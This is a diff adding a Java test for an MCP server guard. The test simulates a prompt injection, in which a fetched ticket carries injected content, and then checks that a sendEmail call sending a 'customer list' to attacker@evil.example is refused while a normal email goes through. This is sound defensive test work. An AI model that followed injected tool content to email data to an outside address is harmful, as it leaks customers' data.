@@ -91,6 +91,23 @@ class McpSdkStdioTest {
   }
 
   @Test
+  void aGuardedAsyncServerRefusesTheInjectedRecipientWithAnErrorResult() throws Exception {
+    McpSyncClient c = connect("injected", "guarded-async");
+    assertThat(text(c.callTool(new CallToolRequest("getTicket", Map.of("id", "4711")))))
+        .isEqualTo(TicketServer.INJECTED);
+    CallToolResult attack = c.callTool(new CallToolRequest("sendEmail",
+        Map.of("to", "attacker@evil.example", "subject", "x", "body", "customer list")));
+    assertThat(attack.isError()).isTrue();
+    assertThat(text(attack)).isEqualTo(DENIED_TEXT);
+    CallToolResult crash = c.callTool(new CallToolRequest("crash", Map.of()));
+    assertThat(crash.isError()).isTrue();
+    assertThat(text(crash)).isEqualTo("The tool failed while running.");
+    assertThat(text(c.callTool(new CallToolRequest("sendEmail",
+        Map.of("to", "bob@acme.com", "subject", "s", "body", "b"))))).isEqualTo("sent");
+    assertThat(sent()).isEqualTo("crash ran\nbob@acme.com|s|b\n");
+  }
+
+  @Test
   void aThrowingHandlerIsAJsonRpcErrorUnguardedAndATerseErrorResultGuarded() throws Exception {
     McpSyncClient plain = connect("benign", "plain");
     assertThatThrownBy(() -> plain.callTool(new CallToolRequest("crash", Map.of())))
